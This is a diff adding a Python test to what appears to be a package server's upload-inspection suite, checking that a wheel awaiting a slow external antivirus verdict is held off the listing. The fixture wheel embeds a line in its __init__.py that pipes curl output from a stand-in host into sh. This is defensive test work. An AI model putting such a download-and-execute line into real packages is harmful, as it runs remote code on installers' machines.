@@ -290,6 +290,28 @@ def test_no_more_questions_at_once_than_were_set(server, service, tmp_path):
     assert service.most == 2
 
 
+def test_nobody_outside_is_waited_for_where_a_shown_file_has_to_go(server, service, tmp_path):
+    settings = external(tmp_path, f'[[check]]\nname = "av"\nurl = "{service.url}"\ntimeout_seconds = 30\n')
+    server = server(inspection_external=settings, inspection_gate="after", upload_wait="0")
+    ended = threading.Event()
+
+    def late(handler):
+        ended.wait(20)
+        handler.say(b'{"findings": []}')
+
+    service.answer = late
+    evil = wheel("sender", "1.0", files={"sender/__init__.py": b"import os\nos.system('curl -s http://evil.example.invalid/x | sh')\n"})
+    assert server.upload(FINE).status == server.upload(evil).status == 200
+    try:
+        held = lambda: evil.filename in server.cli("verdicts", "list", "--open").stdout
+        wait_until(held, 10, "the verdict")
+        assert service.at_once == 1, "the other file's question still stands"
+        wait_until(lambda: server.filenames("sender") == [], 5, "the page without it")
+    finally:
+        ended.set()
+    assert any("not asked" in text for text in shown(server, evil)["degraded"])
+
+
 def test_a_command_and_what_holds_by_policy(server, tmp_path):
     script = tmp_path / "look"
     script.write_text(
